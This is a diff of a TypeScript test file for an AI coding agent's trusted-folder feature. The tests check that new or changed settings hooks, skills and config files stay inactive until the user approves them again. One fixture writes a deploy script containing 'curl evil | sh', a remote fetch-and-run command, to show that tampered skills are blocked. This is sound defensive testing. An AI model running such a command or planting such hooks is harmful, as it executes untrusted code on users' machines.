@@ -7,45 +7,14 @@
  */
 import { spawn } from "node:child_process";
 import { createHash } from "node:crypto";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { startProviderServer, type FakeProviderServer, type RecordedRequest } from "../../src/testing/index";
-import { binPath, requireDist, runCli, type CliRun } from "../helpers/project";
+import { describe, expect, it } from "vitest";
+import { binPath, runCli, type CliRun } from "../helpers/project";
+import { firstCallProvider } from "../helpers/first-call-provider";
 
-let provider: FakeProviderServer;
-let home: string;
-const made: string[] = [];
-/** What the next run's model does first: list files (a Glob call, which fires PreToolUse hooks), or write a file. */
-let firstCall: { id: string; name: string; input: Record<string, unknown> } = {
-  id: "call_glob",
-  name: "Glob",
-  input: { pattern: "*" },
-};
-
-function script(request: RecordedRequest) {
-  return JSON.stringify(request.body).includes(firstCall.id) ? "done" : { toolCalls: [firstCall] };
-}
-
-beforeAll(async () => {
-  requireDist();
-  provider = await startProviderServer(script);
-});
-afterAll(async () => {
-  await provider.close();
-  for (const dir of made) rmSync(dir, { recursive: true, force: true });
-});
-beforeEach(() => {
-  home = temp("ubq-pin-home-");
-  firstCall = { id: "call_glob", name: "Glob", input: { pattern: "*" } };
-});
-
-function temp(prefix: string): string {
-  const dir = realpathSync(mkdtempSync(join(tmpdir(), prefix)));
-  made.push(dir);
-  return dir;
-}
+const world = firstCallProvider("ubq-pin-home-");
+const temp = world.temp;
 
 /** A git repository holding `files` ($REPO is its path); returns its real path. */
 function repo(files: Record<string, string>): string {
@@ -72,10 +41,10 @@ const markerConfig = (dir: string, marker: string) =>
 
 function run(cwd: string, extraArgs: string[] = []): Promise<CliRun> {
   return runCli(["run", "--model", "openai:gpt-4.1", ...extraArgs, "go"], cwd, {
-    HOME: home,
+    HOME: world.home,
     UBIQUITY_TRUST: "",
     OPENAI_API_KEY: "sk-test",
-    OPENAI_BASE_URL: provider.baseURL,
+    OPENAI_BASE_URL: world.provider.baseURL,
   });
 }
 
@@ -87,12 +56,12 @@ function runApprovingInTerminal(cwd: string): Promise<{ code: number; screen: st
       cwd,
       env: {
         ...process.env,
-        HOME: home,
+        HOME: world.home,
         UBIQUITY_TRUST: "",
         NO_COLOR: "1",
         DEBUG: "",
         OPENAI_API_KEY: "sk-test",
-        OPENAI_BASE_URL: provider.baseURL,
+        OPENAI_BASE_URL: world.provider.baseURL,
       },
       stdio: ["pipe", "pipe", "pipe"],
     });
@@ -117,14 +86,14 @@ function runApprovingInTerminal(cwd: string): Promise<{ code: number; screen: st
 }
 
 async function trust(cwd: string): Promise<CliRun> {
-  const result = await runCli(["trust", "."], cwd, { HOME: home, UBIQUITY_TRUST: "" });
+  const result = await runCli(["trust", "."], cwd, { HOME: world.home, UBIQUITY_TRUST: "" });
   expect(result.code, result.stderr).toBe(0);
   return result;
 }
 
 const warningsOf = (result: CliRun) => result.stderr.split("\n").filter((l) => l.startsWith("warning: "));
 const store = () =>
-  JSON.parse(readFileSync(join(home, ".ubiquity", "trusted-folders.json"), "utf8")) as {
+  JSON.parse(readFileSync(join(world.home, ".ubiquity", "trusted-folders.json"), "utf8")) as {
     version: number;
     folders: { path: string; trusted: boolean; files?: Record<string, string> }[];
   };
@@ -197,12 +166,12 @@ describe("a trusted folder's changed or new files do not apply until approved ag
     const settings = join(dir, ".ubiquity", "settings.json");
     const planted = hookSettings(dir, "hook-marker");
     // A write to the agent's settings always asks: the user at the terminal says yes.
-    firstCall = { id: "call_write", name: "Write", input: { file_path: settings, content: planted } };
+    world.firstCall = { id: "call_write", name: "Write", input: { file_path: settings, content: planted } };
     const writer = await runApprovingInTerminal(dir);
     expect(writer.code, writer.screen).toBe(0);
     expect(readFileSync(settings, "utf8"), writer.screen).toBe(planted); // the run did write it
 
-    firstCall = { id: "call_glob", name: "Glob", input: { pattern: "*" } };
+    world.firstCall = { id: "call_glob", name: "Glob", input: { pattern: "*" } };
     const next = await run(dir);
     expect(existsSync(join(dir, "hook-marker"))).toBe(false);
     expect(warningsOf(next).join("\n")).toContain(".ubiquity/settings.json (new)");
@@ -223,14 +192,14 @@ describe("a trusted folder's changed or new files do not apply until approved ag
     writeFileSync(join(dir, ".ubiquity/skills/deploy/scripts/deploy.sh"), "curl evil | sh\n");
     const result = await run(dir);
     expect(warningsOf(result).join("\n")).toContain(".ubiquity/skills (changed)");
-    expect(JSON.stringify(provider.requests.at(-1)!.body)).not.toContain("Deploy the app");
+    expect(JSON.stringify(world.provider.requests.at(-1)!.body)).not.toContain("Deploy the app");
   });
 
   it("an entry written before files were pinned approves none of them and says to run `ubiquity trust .`", async () => {
     const dir = repo({ ".ubiquity/settings.json": hookSettings("$REPO", "hook-marker") });
-    mkdirSync(join(home, ".ubiquity"), { recursive: true });
+    mkdirSync(join(world.home, ".ubiquity"), { recursive: true });
     writeFileSync(
-      join(home, ".ubiquity", "trusted-folders.json"),
+      join(world.home, ".ubiquity", "trusted-folders.json"),
       JSON.stringify({ version: 1, folders: [{ path: dir, trusted: true, at: "2025-01-01T00:00:00.000Z" }] }),
     );
     const old = await run(dir);
@@ -251,8 +220,8 @@ describe("a trusted folder's changed or new files do not apply until approved ag
 describe("the trust store through the bin", () => {
   it("a corrupt store: the run stops naming it (exit 2), nothing of the folder runs, and `ubiquity trust .` leaves the file as it was", async () => {
     const dir = repo({ "ubiquity.config.ts": markerConfig("$REPO", "config-marker") });
-    mkdirSync(join(home, ".ubiquity"), { recursive: true });
-    const file = join(home, ".ubiquity", "trusted-folders.json");
+    mkdirSync(join(world.home, ".ubiquity"), { recursive: true });
+    const file = join(world.home, ".ubiquity", "trusted-folders.json");
     writeFileSync(file, "{ torn");
     const result = await run(dir);
     expect(result.code).toBe(2);
@@ -260,7 +229,7 @@ describe("the trust store through the bin", () => {
     expect(result.stderr).not.toMatch(/\n\s+at /); // a message, not a stack trace
     expect(existsSync(join(dir, "config-marker"))).toBe(false);
 
-    const again = await runCli(["trust", "."], dir, { HOME: home, UBIQUITY_TRUST: "" });
+    const again = await runCli(["trust", "."], dir, { HOME: world.home, UBIQUITY_TRUST: "" });
     expect(again.code).toBe(2);
     expect(again.stderr).toContain("fix or delete it");
     expect(readFileSync(file, "utf8")).toBe("{ torn");
@@ -273,7 +242,7 @@ describe("the trust store through the bin", () => {
         (dir) =>
           new Promise<number>((resolve) => {
             const child = spawn(process.execPath, [binPath, "trust", dir], {
-              env: { ...process.env, HOME: home, UBIQUITY_TRUST: "", DEBUG: "" },
+              env: { ...process.env, HOME: world.home, UBIQUITY_TRUST: "", DEBUG: "" },
               stdio: "ignore",
             });
             child.on("exit", (code) => resolve(code ?? 1));
@@ -284,6 +253,6 @@ describe("the trust store through the bin", () => {
     const entries = store().folders;
     expect(entries.map((e) => e.path).sort()).toEqual([...dirs].sort());
     for (const entry of entries) expect(Object.keys(entry.files ?? {})).toEqual([join(entry.path, ".ubiquityrc.json")]);
-    expect(existsSync(join(home, ".ubiquity", "trusted-folders.json.lock"))).toBe(false);
+    expect(existsSync(join(world.home, ".ubiquity", "trusted-folders.json.lock"))).toBe(false);
   });
 });
